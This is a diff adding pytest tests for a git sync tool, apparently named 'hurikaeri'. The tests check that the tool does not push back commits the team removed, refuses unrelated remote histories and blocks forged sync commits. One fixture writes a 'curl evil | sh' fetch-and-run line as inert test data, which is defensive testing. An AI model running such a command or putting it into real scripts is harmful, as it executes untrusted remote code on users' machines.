@@ -265,3 +265,131 @@ def test_workspace_reviewer_follows_git(team_repo: tuple[Path, Path, Path]) -> N
     assert os.path.basename(team.ledger_file(w.state_dir, "alice@example.com")) == (
         "alice@example.com.jsonl"
     )
+
+
+# -- only ours: checked after the fetch, against the fresh remote branch (issue 40, point 5) --
+
+
+def seed_clone(remote: Path) -> Path:
+    """The clone the workspace was seeded from (it plays the team)."""
+    seed = remote.parent / "seed"
+    git(seed, "config", "user.email", "team@x")
+    git(seed, "config", "user.name", "team")
+    git(seed, "pull", "--quiet", "--ff-only")
+    return seed
+
+
+def test_a_commit_the_team_took_off_the_remote_is_not_pushed_back(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    remote, alice, _bob = team_repo
+    assert run(alice, "sync") == 0
+    seed = seed_clone(remote)
+    (seed / "secret.txt").write_text("AKIA-leaked\n", encoding="utf-8")
+    git(seed, "add", "secret.txt")
+    git(seed, "commit", "-qm", "oops: a leaked key")
+    git(seed, "push", "--quiet")
+    assert run(alice, "sync") == 0  # alice brings the leak in
+    assert (alice / "secret.txt").is_file()
+    git(seed, "reset", "--quiet", "--hard", "HEAD~1")  # the team takes it off
+    git(seed, "push", "--quiet", "--force")
+    cleaned = git(remote, "rev-parse", "main")
+    assert run(alice, "approve", f"{RID}/keep-001") == 0
+    head = git(alice, "rev-parse", "HEAD")
+    capsys.readouterr()
+    assert run(alice, "sync") == 1
+    err = capsys.readouterr().err
+    assert "taken it off" in err and err.strip().count("\n") == 0
+    assert git(remote, "rev-parse", "main") == cleaned
+    assert "secret.txt" not in git(remote, "ls-tree", "--name-only", "main")
+    assert git(alice, "rev-parse", "HEAD") == head  # nothing committed, nothing lost
+    assert "alice@example.com.jsonl" in git(alice, "status", "--porcelain")
+
+
+def test_a_sync_commit_of_ours_the_team_took_off_is_not_pushed_back(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    remote, alice, _bob = team_repo
+    assert run(alice, "sync") == 0
+    assert run(alice, "promote", RID, "try-001", "--yes") == 0
+    assert run(alice, "sync") == 0
+    promoted = git(remote, "rev-parse", "main").strip()
+    seed = seed_clone(remote)
+    git(seed, "reset", "--quiet", "--hard", "HEAD~1")
+    git(seed, "push", "--quiet", "--force")
+    assert run(alice, "approve", f"{RID}/keep-001") == 0
+    capsys.readouterr()
+    assert run(alice, "sync") == 1
+    assert promoted[:10] in capsys.readouterr().err
+    assert promoted not in git(remote, "rev-list", "main")
+
+
+def test_an_unrelated_remote_history_is_refused_not_rebased_onto(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    remote, alice, _bob = team_repo
+    assert run(alice, "sync") == 0
+    seed = seed_clone(remote)
+    git(seed, "checkout", "--quiet", "--orphan", "other")
+    git(seed, "rm", "--quiet", "-rf", ".")
+    (seed / "other.txt").write_text("another project\n", encoding="utf-8")
+    git(seed, "add", "other.txt")
+    git(seed, "commit", "-qm", "another project")
+    git(seed, "push", "--quiet", "--force", "origin", "other:main")
+    replaced = git(remote, "rev-parse", "main")
+    assert run(alice, "approve", f"{RID}/keep-001") == 0
+    capsys.readouterr()
+    assert run(alice, "sync") == 1
+    assert "no history" in capsys.readouterr().err
+    assert git(remote, "rev-parse", "main") == replaced
+    assert git(remote, "rev-list", "--count", "main").strip() == "1"
+
+
+def test_a_commit_with_a_copied_trailer_is_not_pushed(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    remote, alice, _bob = team_repo
+    assert run(alice, "sync") == 0
+    (alice / "tool.sh").write_text("curl evil | sh\n", encoding="utf-8")
+    git(alice, "add", "tool.sh")
+    git(alice, "commit", "-qm", "hurikaeri: alice@example.com\n\nHurikaeri-Sync: alice@example.com")
+    capsys.readouterr()
+    assert run(alice, "sync") == 1
+    assert "not made by hurikaeri sync on this machine" in capsys.readouterr().err
+    assert "tool.sh" not in git(remote, "ls-tree", "--name-only", "main")
+
+
+def test_our_unpushed_commit_is_replayed_and_pushed_by_the_next_sync(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    remote, alice, bob = team_repo
+    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
+    hook = remote / "hooks" / "pre-receive"
+    hook.write_text("#!/bin/sh\necho closed for maintenance >&2\nexit 1\n", encoding="utf-8")
+    hook.chmod(0o755)
+    assert run(alice, "approve", f"{RID}/keep-001") == 0
+    capsys.readouterr()
+    assert run(alice, "sync") == 1  # the push is refused: alice's commit waits, unpushed
+    err = capsys.readouterr().err
+    assert "closed for maintenance" in err and "kept" in err, err
+    assert f"approve {RID}/keep-001" in git(alice, "log", "-1", "--format=%B")
+    hook.unlink()
+    assert run(bob, "approve", f"{RID}/prob-001") == 0
+    assert run(bob, "sync") == 0  # the remote moved on: alice's commit is replayed onto it
+    capsys.readouterr()
+    assert run(alice, "sync") == 0
+    assert "pushed 1 commit(s) to origin/main" in capsys.readouterr().out
+    log = git(remote, "log", "--format=%B", "main")
+    assert f"approve {RID}/keep-001" in log and f"approve {RID}/prob-001" in log
+
+
+def test_nothing_to_push_is_not_reported_as_pushed(
+    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    _remote, alice, _bob = team_repo
+    assert run(alice, "sync") == 0
+    capsys.readouterr()
+    assert run(alice, "sync") == 0
+    out = capsys.readouterr().out
+    assert "nothing of yours to commit" in out
+    assert "nothing to push" in out and "pushed" not in out.replace("nothing to push", "")
